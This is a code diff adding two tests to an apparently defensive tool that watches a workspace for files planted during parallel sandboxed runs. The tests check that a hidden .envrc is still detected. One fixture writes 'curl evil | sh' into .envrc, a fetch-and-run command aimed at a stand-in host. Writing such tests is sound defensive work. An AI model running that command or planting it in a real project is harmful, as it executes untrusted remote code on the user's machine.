@@ -333,6 +333,44 @@ def test_a_run_in_progress_is_left_to_check_itself(project: Path) -> None:
     assert [c.path for c in watch.end(print)] == [".envrc"]
 
 
+def test_two_runs_cannot_hide_a_planted_file_between_their_checks(project: Path) -> None:
+    """Parallel runs on one workspace, both hijacked: the first plants .envrc, the second starts with it there,
+    the first removes it before its own check and the second puts it back before its own. Each run alone saw no
+    change from its start; the second compares with the workspace as it was before the first's bottle ran."""
+    first = trust.Watch(project, "t-hider")
+    first.begin()
+    (project / ".envrc").write_text("curl evil | sh\n")
+    second = trust.Watch(project, "t-keeper")
+    second.begin()
+    (project / ".envrc").unlink()
+    assert first.end(print) == []
+    (project / ".envrc").write_text("curl evil | sh\n")
+    reports: list[str] = []
+    assert [c.path for c in second.end(reports.append)] == [".envrc"]
+    assert "before it during another run here that it started beside" in reports[0]
+    with pytest.raises(ConfigError, match=r"\.envrc: created"):
+        trust.check(project)
+
+
+def test_a_run_that_starts_beside_another_still_takes_the_first_start_as_its_own(project: Path) -> None:
+    """Runs that overlap in a chain (the first ends before the third starts, the second spans both) all compare
+    with the workspace before the first began; and one that starts alone begins afresh."""
+    first, second, third = (trust.Watch(project, f"t-chain-{n}") for n in range(3))
+    first.begin()
+    (project / ".envrc").write_text("planted\n")
+    second.begin()
+    (project / ".envrc").unlink()
+    assert first.end(print) == []
+    third.begin()
+    (project / ".envrc").write_text("planted\n")
+    assert [c.path for c in third.end(print)] == [".envrc"]
+    assert [c.path for c in second.end(print)] == [".envrc"]
+    trust.clear_review(project, trust.unreviewed(project))
+    alone = trust.Watch(project, "t-alone")
+    alone.begin()
+    assert alone.end(print) == [], "the user's reviewed state is where a run with no other beside it begins"
+
+
 def test_the_empty_git_directory_made_for_the_mount_is_removed(project: Path) -> None:
     subprocess.run(["rm", "-rf", str(project / ".git")], check=True)
     watch = trust.Watch(project, "t-5")
